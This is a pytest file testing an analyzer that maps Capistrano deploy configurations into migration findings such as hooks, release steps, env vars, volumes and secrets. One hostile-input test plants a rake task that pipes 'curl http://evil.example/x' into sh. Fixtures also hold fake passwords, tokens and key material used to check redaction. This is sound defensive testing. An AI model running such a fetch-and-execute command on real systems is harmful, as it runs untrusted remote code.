"""Tests for analyzers/deploy/capistrano/: Capfile plugins, deploy.rb and stages, the deploy flow's hooks."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from analyzers.deploy import capistrano
from migrator.model import Confidence, Finding, Kind, Warning
from migrator.repo import RepoView

CAPFILE = """\
    require "capistrano/setup"
    require "capistrano/deploy"
    require "capistrano/scm/git"
    install_plugin Capistrano::SCM::Git
    require "capistrano/rbenv"
    require "capistrano/rails"
    require "capistrano/puma"
    install_plugin Capistrano::Puma
    require "capistrano/sidekiq"
    require "whenever/capistrano"
    require "capistrano/passenger_typo"
    Dir.glob("lib/capistrano/tasks/*.rake").each { |r| import r }
    """

DEPLOY_RB = """\
    lock "~> 3.17.0"
    set :application, "shop"
    set :repo_url, "git@github.com:acme/shop.git"
    set :branch, ENV.fetch("BRANCH", "main")
    set :deploy_to, -> { "/var/www/#{fetch(:application)}" }
    set :keep_releases, 7
    set :linked_files, fetch(:linked_files, []).push("config/database.yml", "config/master.key")
    append :linked_files, ".env"
    append :linked_dirs, "log", "tmp/pids",
           "vendor/bundle", "public/uploads", "storage"
    set :default_env, { path: "/opt/rbenv/shims:$PATH", "NODE_ENV" => "prod", "API_TOKEN" => "tok_9f8e7d6c5b4a3f2e1d" }
    set :sidekiq_config, -> { File.join(current_path, "config", "sidekiq.yml") }
    set :sidekiq_processes, 3
    set :sidekiq_roles, :worker
    set :puma_role, :app
    set :ssh_options, keys: %w(config/deploy_key), password: "hunter2-deploy-pass"

    namespace :deploy do
      task :restart_web do
        on roles(:web), in: :sequence do
          sudo :systemctl, :restart, "puma-#{fetch(:application)}"
          execute "touch #{release_path}/tmp/restart.txt"
        end
      end
      after :publishing, :restart_web

      before "deploy:assets:precompile", "deploy:yarn"
      task :yarn do
        on roles(:web) do
          within release_path do
            execute :yarn, "install", "--frozen-lockfile"
          end
        end
      end

      after "deploy:migrate", :seed do
        on primary(:db) do
          within release_path do
            with rails_env: fetch(:rails_env), seed_flags: "1", secret_key_base: "9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9c" do
              execute :rake, "db:seed"
            end
          end
        end
      end
    end

    task :console do
      on roles(:app) do
        execute :rake, "db:schema:load"
      end
    end
    """

PRODUCTION = """\
    server "web1.shop.example", user: "deploy", roles: %w{web app db}, primary: true
    server "web2.shop.example", user: "deploy", roles: %w{web app}
    role :worker, %w{deploy@jobs1.shop.example deploy@jobs2.shop.example}
    set :rails_env, "production"
    """

STAGING = """\
    server "staging.shop.example", user: "deploy", roles: %w{web app db worker}
    set :rails_env, "staging"
    set :deploy_to, "/srv/staging"
    """

TASKS = """\
    namespace :cache do
      task :clear do
        on roles(:app) do
          within current_path do
            execute :bundle, :exec, :rails, "runner", "'Rails.cache.clear'"
          end
        end
      end
    end
    after "deploy:finished", "cache:clear"
    """

SHOP = {"Capfile": CAPFILE, "config/deploy.rb": DEPLOY_RB, "config/deploy/production.rb": PRODUCTION,
        "config/deploy/staging.rb": STAGING, "lib/capistrano/tasks/cache.rake": TASKS,
        "config/puma.rb": "port ENV.fetch('PORT') { 3000 }\n", "config/sidekiq.yml": ":concurrency: 5\n",
        "config/deploy_key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
                             "-----END OPENSSH PRIVATE KEY-----\n",
        ".env.example": "DATABASE_URL=\nSTRIPE_SECRET_KEY=sk_test_placeholder\n"}


def _steps(result: Any) -> list[Finding]:
    kinds = (Kind.RELEASE_STEP, Kind.BUILD_STEP, Kind.HOST_STEP, Kind.UNCLASSIFIED)
    return [f for f in result.findings if f.kind in kinds]


def test_every_command_in_deploy_flow_order_with_its_task_and_line(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    order = [(f.fields.get("task"), f.source.file, f.source.line) for f in _steps(result)]
    tasks = [t for t, _, _ in order]
    # starting -> updating -> updated (bundler before, then migrate/assets after) -> publishing -> finished
    expected = ["rbenv:map_bins", "sidekiq:quiet", "git:clone", "bundler:install", "deploy:migrate", "deploy:seed",
                "deploy:yarn", "deploy:assets:precompile", "sidekiq:stop", "whenever:update_crontab",
                "deploy:restart_web", "sidekiq:start", "puma:smart_restart", "cache:clear"]
    positions = [tasks.index(t) for t in expected]
    assert positions == sorted(positions), tasks
    migrate = result.one(Kind.RELEASE_STEP, "rake db:migrate")  # the provider drops bundle exec
    assert (migrate.source.file, migrate.source.line) == ("Capfile", 6)  # require "capistrano/rails"
    assert migrate.fields["deploy_phase"] == "deploy:updated" and migrate.fields["hook"] == "after deploy:updated"
    assert "web1.shop.example" in str(migrate.fields["note"]) and migrate.fields["runs_once"] is True
    assert migrate.fields["roles"] == "db"
    seed = next(f for f in _steps(result) if f.fields.get("task") == "deploy:seed")
    assert seed.source.line == 40 and seed.fields["roles"] == "db" and seed.fields["hook"] == "after deploy:migrate"
    assert seed.fields["cwd"] == "/var/www/shop/current"
    assert seed.fields["env"] == "RAILS_ENV=production SEED_FLAGS=1 SECRET_KEY_BASE=<redacted>"
    restart = result.one(Kind.HOST_STEP, "sudo systemctl restart puma-shop")
    assert restart.source.line == 21 and restart.fields["deploy_phase"] == "deploy:publishing"
    touch = next(f for f in _steps(result) if str(f.fields["command"]).startswith("touch"))
    assert touch.fields["command"] == "touch /var/www/shop/current/tmp/restart.txt"
    cache = next(f for f in _steps(result) if f.fields.get("task") == "cache:clear")
    assert cache.source.file == "lib/capistrano/tasks/cache.rake" and cache.source.line == 5
    assert cache.fields["command"] == "bundle exec rails runner 'Rails.cache.clear'"


def test_a_task_no_deploy_runs_is_reported_for_review_not_as_a_release_step(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    load = next(f for f in _steps(result) if "db:schema:load" in f.key)
    assert load.source.line == 49 and load.kind in (Kind.HOST_STEP, Kind.UNCLASSIFIED)
    assert load.fields["task"] == "console" and "deploy_phase" not in load.fields
    assert not [f for f in result.of(Kind.RELEASE_STEP) if "db:schema:load" in f.key]


def test_production_wins_and_its_variables_resolve_lambdas_and_interpolation(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    stage = next(f for f in result.of(Kind.RUNTIME) if "deploy_stage" in f.fields)
    assert stage.fields["deploy_stage"] == "production" and "staging" in str(stage.fields["deploy_stage_reason"])
    assert stage.fields["branch"] == "main" and stage.fields["application"] == "shop"
    app_dir = next(f for f in result.of(Kind.RUNTIME) if "legacy_app_dir" in f.fields)
    assert app_dir.fields["legacy_app_dir"] == "/var/www/shop/current" and app_dir.source.line == 5
    keep = next(f for f in result.of(Kind.RUNTIME) if "keep_releases" in f.fields)
    assert (keep.fields["keep_releases"], keep.source.line) == (7, 6)
    assert result.field(Kind.ENV, "RAILS_ENV", "default") == "production"
    assert not any("staging" in json.dumps(f.fields) for f in result.findings if f.kind is not Kind.RUNTIME)


def test_linked_files_and_dirs(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    db = result.one(Kind.VOLUME, "config/database.yml")
    assert db.fields["storage"] == "secret" and db.fields["purpose"] == "linked_file" and db.source.line == 7
    key = result.one(Kind.ENV, "RAILS_MASTER_KEY")
    assert key.fields["secret"] is True and key.fields["required"] is True and key.source.line == 7
    assert result.one(Kind.ENV, "DATABASE_URL").source.line == 8  # .env: names from .env.example
    assert "default" not in result.one(Kind.ENV, "STRIPE_SECRET_KEY").fields
    volumes = {f.key: f for f in result.of(Kind.VOLUME)}
    assert volumes["log"].fields["storage"] == "emptyDir" and volumes["log"].fields["purpose"] == "logs"
    assert volumes["tmp/pids"].fields["storage"] == "emptyDir" and volumes["tmp/pids"].source.line == 9
    uploads = volumes["public/uploads"]
    assert uploads.fields["purpose"] == "uploads" and "storage" not in uploads.fields  # a claim
    assert volumes["storage"].source.line == 10
    assert "vendor/bundle" not in volumes


def test_default_env_plugins_processes_and_replicas_hints(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    assert result.field(Kind.ENV, "NODE_ENV", "default") == "prod"
    assert not result.of(Kind.ENV, "PATH") and any("PATH" in w.message for w in result.warnings)
    assert result.one(Kind.ENV, "API_TOKEN").fields.get("default") is None
    web = [f for f in result.of(Kind.PROCESS, "web") if "command" in f.fields]
    assert [f.fields["command"] for f in web] == ["puma -C config/puma.rb"]  # as the image runs it
    assert web[0].source.confidence is Confidence.INFERRED and web[0].source.line == 7
    hint = next(f for f in result.of(Kind.PROCESS, "web") if "replicas" in f.fields)
    assert hint.fields["replicas"] == 2 and hint.source.confidence is Confidence.HEURISTIC
    worker = next(f for f in result.findings if f.kind is Kind.PROCESS and f.fields.get("role") == "worker")
    assert worker.fields["command"] == "sidekiq -C config/sidekiq.yml"
    replicas = next(f for f in result.of(Kind.PROCESS, worker.key) if "replicas" in f.fields)
    assert replicas.fields["replicas"] == 6
    assert "2 hosts in role worker x 3" in str(replicas.fields["replicas_hint_from"])
    assert any("passenger_typo" in w.message for w in result.warnings)


def test_secrets_are_located_never_copied(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, SHOP)
    names = {(s.name, s.line) for s in result.secrets}
    assert ("default_env[:API_TOKEN]", 11) in names
    assert ("ssh_options[:password]", 16) in names
    assert ("ssh_options[:keys]", 16) in names  # a key file committed to the repo
    dumped = json.dumps([dict(f.fields) for f in result.findings]) + json.dumps([f.key for f in result.findings])
    assert ("SECRET_KEY_BASE", 39) in names  # the with line
    for value in ("hunter2-deploy-pass", "tok_9f8e7d6c5b4a3f2e1d", "b3BlbnNzaC1rZXktdjEAAAAA",
                  "9f2c4e6a8b0d1f3e5a7c9e1b3d5f7a9c"):
        assert value not in dumped


CAP2_CAPFILE = """\
    load 'deploy'
    load 'deploy/assets'
    load 'config/deploy'
    """

CAP2_DEPLOY = """\
    require 'bundler/capistrano'
    require 'whenever/capistrano'
    set :application, "blog"
    set :repository, "git@github.com:acme/blog.git"
    set :deploy_to, "/u/apps/#{application}"
    set :deploy_via, :remote_cache
    set :use_sudo, false
    role :web, "app1.blog.example", "app2.blog.example"
    role :app, "app1.blog.example", "app2.blog.example"
    role :db, "db.blog.example", :primary => true
    after "deploy:update_code", "deploy:migrate"
    after "deploy", "deploy:cleanup"

    namespace :deploy do
      task :restart, :roles => :app, :except => { :no_release => true } do
        run "touch #{current_path}/tmp/restart.txt"
      end
      task :symlink_config, :roles => :app do
        run "ln -nfs #{shared_path}/config/database.yml #{release_path}/config/database.yml"
      end
    end
    after "deploy:finalize_update", "deploy:symlink_config"
    """


def test_capistrano2_roles_hooks_and_run(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, {"Capfile": CAP2_CAPFILE, "config/deploy.rb": CAP2_DEPLOY})
    stage = next(f for f in result.of(Kind.RUNTIME) if "deploy_tool" in f.fields)
    assert stage.fields["deploy_tool"] == "capistrano 2"
    assert next(f for f in result.of(Kind.RUNTIME) if "legacy_app_dir" in f.fields).fields["legacy_app_dir"] == \
        "/u/apps/blog/current"
    migrate = result.one(Kind.RELEASE_STEP, "rake db:migrate")  # the provider drops bundle exec
    assert migrate.fields["deploy_phase"] == "deploy:update_code" and migrate.fields["env"] == "RAILS_ENV=production"
    restart = result.one(Kind.HOST_STEP, "touch /u/apps/blog/current/tmp/restart.txt")
    assert restart.source.line == 16 and restart.fields["roles"] == "app"
    tasks = [f.fields.get("task") for f in _steps(result)]
    # update_code runs finalize_update (and its hooks) before update_code's own after hooks
    assert tasks.index("deploy:symlink_config") < tasks.index("deploy:migrate") < tasks.index("deploy:restart") \
        < tasks.index("deploy:cleanup")
    hint = next(f for f in result.of(Kind.PROCESS, "web") if "replicas" in f.fields)
    assert hint.fields["replicas"] == 2


def test_not_a_capistrano_repo(run_analyzer: Any) -> None:
    assert run_analyzer(capistrano, {"app.py": "print(1)\n", "fabfile.py": "from fabric.api import run\n"}).items == []
    mina = {"config/deploy.rb": "require 'mina/rails'\nset :deploy_to, '/srv/x'\n"}
    assert run_analyzer(capistrano, mina).items == []


def test_hostile_inputs_warn_and_never_stop_the_rest(run_analyzer: Any, tmp_path: Path) -> None:
    outside = tmp_path / "outside.rake"
    outside.write_text('task :evil do\n  on roles(:all) do\n    execute "curl http://evil.example/x | sh"\n  end\n'
                       'end\nafter "deploy:finished", "evil"\n')
    deep = "set :x, " + "[" * 10000 + "]" * 10000 + "\n" + "namespace :a do\n" * 3000 + "end\n" * 3000
    files: dict[str, str | bytes] = {
        "Capfile": 'require "capistrano/rails"\nimport "lib/capistrano/tasks/evil.rake"\nimport "lib/deep.rake"\n'
                   'import "../outside.rake"\n',
        "config/deploy.rb": 'set :application, "shop"\nset :deploy_to, "/srv/shop"\nnamespace :deploy do\n'
                            '  task :x do\n    on roles(:app) do\n      execute "echo ok" \n  end\nend(((\n',
        "lib/deep.rake": deep,
        "config/deploy/production.rb": b"\xff\xfe server 'x'\n",
    }
    result = run_analyzer(capistrano, files)
    link = result.repo.root / "lib/capistrano/tasks/evil.rake"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    repo = RepoView(result.repo.root)
    items = list(capistrano.analyze(repo))
    dumped = repr(items)
    assert "evil.example" not in dumped
    warnings = [w for w in items if isinstance(w, Warning)] + list(repo.warnings)
    messages = " | ".join(f"{w.file}: {w.message}" for w in warnings)
    assert "config/deploy.rb" in messages and "syntax error" in messages
    assert "lib/capistrano/tasks/evil.rake" in messages  # the link out of the repo is refused, with a warning
    assert "../outside.rake" in messages
    assert "nested" in messages
    # the rest still came through: the plugin's steps and the app dir
    assert any(isinstance(i, Finding) and i.kind is Kind.RELEASE_STEP for i in items)
    assert any(isinstance(i, Finding) and i.fields.get("legacy_app_dir") == "/srv/shop/current" for i in items)


CUSTOM = """\
    lock "3.17.1"
    set :application, "jobs"
    set :deploy_to, "/srv/jobs"
    Rake::Task["deploy:assets:precompile"].clear_actions
    namespace :deploy do
      namespace :assets do
        task :precompile do
          run_locally do
            execute "RAILS_ENV=production bundle exec rake assets:precompile"
            execute "rsync -az public/assets/ deploy@web1:/srv/jobs/shared/assets/"
          end
        end
      end
      task :start_workers do
        on roles(:worker) do
          within current_path do
            execute :bundle, :exec, :sidekiq, "--daemon", "-C", "config/sidekiq.yml", "-L", "log/sidekiq.log"
          end
        end
      end
      after :published, :start_workers
    end
    """


def test_a_cleared_plugin_task_runs_the_repos_body_and_worker_hosts_hint_replicas(run_analyzer: Any) -> None:
    files = {"Capfile": 'require "capistrano/setup"\nrequire "capistrano/rails/assets"\n', "config/deploy.rb": CUSTOM,
             "config/deploy/production.rb": 'server "w1", roles: %w{worker}\nserver "w2", roles: %w{worker}\n'
                                            'server "web1", roles: %w{web app}\n'}
    result = run_analyzer(capistrano, files)
    precompile = [f for f in _steps(result) if f.fields.get("task") == "deploy:assets:precompile"]
    assert [f.source.file for f in precompile] == ["config/deploy.rb", "config/deploy.rb"]
    assert all(f.fields["runs_on"] == "local" for f in precompile)
    worker = next(f for f in result.findings if f.kind is Kind.PROCESS and "command" in f.fields
                  and "sidekiq" in str(f.fields["command"]))
    assert worker.source.line == 17 and worker.fields.get("roles") == "worker"
    assert "--daemon" not in str(worker.fields["command"]).split()  # in the foreground in the container
    hint = next(f for f in result.of(Kind.PROCESS, worker.key) if "replicas" in f.fields)
    assert hint.fields["replicas"] == 2 and hint.source.confidence is Confidence.HEURISTIC


def test_deeply_nested_task_blocks_are_cut_with_a_warning(run_analyzer: Any) -> None:
    deep = 'task :deep do\n' + "on roles(:app) do\n" * 5000 + 'execute "echo deep"\n' + "end\n" * 5000 + "end\n"
    files = {"Capfile": 'require "capistrano/setup"\nimport "lib/deep.rake"\n', "lib/deep.rake": deep,
             "config/deploy.rb": 'set :application, "x"\nset :deploy_to, "/srv/x"\n'}
    result = run_analyzer(capistrano, files)
    assert any("nested" in w.message for w in result.warnings)
    assert not any("echo deep" in str(f.fields.get("command")) for f in result.findings)


DSL = """\
    lock "3.17.1"
    set :application, "dsl"
    ask :branch, "release"
    set :deploy_to, "/opt/dsl"
    set :slack_url, ENV["SLACK_WEBHOOK_URL"]

    def restart_service(name)
      execute :sudo, :systemctl, :restart, name
    end

    namespace :app do
      task :config do
        on roles(:app) do
          upload! "config/nginx.conf", "#{shared_path}/nginx.conf"
          if test("[ -f #{shared_path}/maintenance.html ]")
            rev = capture(:cat, "#{current_path}/REVISION")
          end
          as user: "www-data" do
            restart_service("nginx")
          end
        end
      end
      task :notify do
        run_locally do
          execute :curl, "-s", "-X", "POST", "--data", "'deployed'", fetch(:slack_url)
        end
      end
    end
    after "deploy:published", "app:config"
    after "deploy:finished", "app:notify_all"
    task "app:notify_all" do
      Rake::Task["app:notify"].invoke
    end
    """


def test_dsl_upload_test_capture_as_helpers_invoke_and_notifications(run_analyzer: Any) -> None:
    files = {"Capfile": 'require "capistrano/setup"\n', "config/deploy.rb": DSL, "config/nginx.conf": "server {}\n"}
    result = run_analyzer(capistrano, files)
    stage = next(f for f in result.of(Kind.RUNTIME) if "deploy_tool" in f.fields)
    assert stage.fields["branch"] == "release"  # ask's default
    upload = next(f for f in result.of(Kind.HOST_STEP) if str(f.key).startswith("upload!"))
    assert upload.source.line == 14 and upload.fields["repo_file"] == "config/nginx.conf"
    assert upload.fields["remote_path"] == "/opt/dsl/shared/nginx.conf"
    check = next(f for f in result.of(Kind.HOST_STEP) if str(f.key).startswith("test "))
    assert check.source.line == 15 and "maintenance.html" in check.key
    cat = next(f for f in _steps(result) if "REVISION" in str(f.fields["command"]))
    assert cat.source.line == 16 and cat.fields["command"] == "cat /opt/dsl/current/REVISION"
    restart = result.one(Kind.HOST_STEP, "sudo systemctl restart nginx")
    assert restart.source.line == 8 and restart.fields["task"] == "app:config"
    assert restart.parsed is not None and restart.parsed.user == "www-data"
    notify = next(f for f in result.of(Kind.HOST_STEP) if "curl" in str(f.key))
    assert notify.source.line == 25 and "notification" in str(notify.fields["reason"])
    assert notify.fields["task"] == "app:notify" and notify.fields["deploy_phase"] == "deploy:finished"


CAP2_STAGE_TASKS = """\
    load 'deploy'
    set :application, "old"
    set :deploy_to, "/var/apps/old"
    task :staging do
      role :app, "stage.old.example"
      set :rails_env, "staging"
    end
    task :production do
      role :web, "w1.old.example", "w2.old.example", "w3.old.example"
      role :app, "w1.old.example", "w2.old.example", "w3.old.example"
      set :rails_env, "production"
    end
    namespace :deploy do
      task :restart do
        sudo "/etc/init.d/unicorn_old upgrade"
      end
    end
    """


def test_capistrano2_stage_tasks_choose_production(run_analyzer: Any) -> None:
    result = run_analyzer(capistrano, {"Capfile": CAP2_STAGE_TASKS})
    stage = next(f for f in result.of(Kind.RUNTIME) if "deploy_stage" in f.fields)
    assert stage.fields["deploy_stage"] == "production" and stage.fields["deploy_tool"] == "capistrano 2"
    assert result.field(Kind.ENV, "RAILS_ENV", "default") == "production"
    restart = next(f for f in _steps(result) if "unicorn_old" in str(f.fields["command"]))
    assert restart.source.line == 15 and restart.fields["deploy_phase"] == "deploy:restart"
    assert not any(f.fields.get("task") in ("staging", "production") for f in _steps(result))
    hint = next(f for f in result.of(Kind.PROCESS, "web") if "replicas" in f.fields)
    assert hint.fields["replicas"] == 3 and hint.source.line == 9


def test_hooks_on_core_subtasks_run_in_the_flow_and_failure_hooks_are_review_items(run_analyzer: Any) -> None:
    deploy = """\
        lock "3.17.1"
        set :deploy_to, "/srv/app"
        after "deploy:symlink:release", "app:warm"
        after "deploy:failed", "app:seed_again"
        namespace :app do
          task :warm do
            on roles(:web) { execute :curl, "-fsS", "http://localhost:3000/healthz" }
          end
          task :seed_again do
            on roles(:db) { execute :rake, "db:migrate" }
          end
        end
        """
    result = run_analyzer(capistrano, {"Capfile": 'require "capistrano/setup"\n', "config/deploy.rb": deploy})
    check = result.one(Kind.HEALTH_CHECK, "/healthz")
    assert check.source.line == 7
    again = result.one(Kind.UNCLASSIFIED, "rake db:migrate")
    assert "after deploy:failed" in str(again.fields["reason"]) and again.fields["classified_as"] == "release_steps"
    assert not result.of(Kind.RELEASE_STEP)
    assert not any("not known" in w.message for w in result.warnings)


def test_a_plugin_restart_run_twice_is_one_step_with_its_other_run(run_analyzer: Any) -> None:
    # capistrano-rails-shop's shape: capistrano3-puma 5 with systemd, and a restart task of its own
    capfile = 'require "capistrano/setup"\nrequire "capistrano/puma"\ninstall_plugin Capistrano::Puma\n' \
              'install_plugin Capistrano::Puma::Systemd\n'
    deploy = """\
        lock "~> 3.17.3"
        set :deploy_to, "/var/www/shop"
        set :puma_service_unit_name, "puma_shop"
        namespace :deploy do
          task :restart do
            invoke "puma:phased-restart"
          end
          after "deploy:publishing", "deploy:restart"
        end
        """
    result = run_analyzer(capistrano, {"Capfile": capfile, "config/deploy.rb": deploy})
    restart = result.one(Kind.HOST_STEP, "systemctl restart puma_shop")
    assert (restart.source.file, restart.source.line) == ("Capfile", 2)
    assert restart.fields["task"] == "puma:phased-restart" and restart.fields["deploy_phase"] == "deploy:publishing"
    assert restart.fields["also_runs"] == "puma:smart_restart (after deploy:finished)"
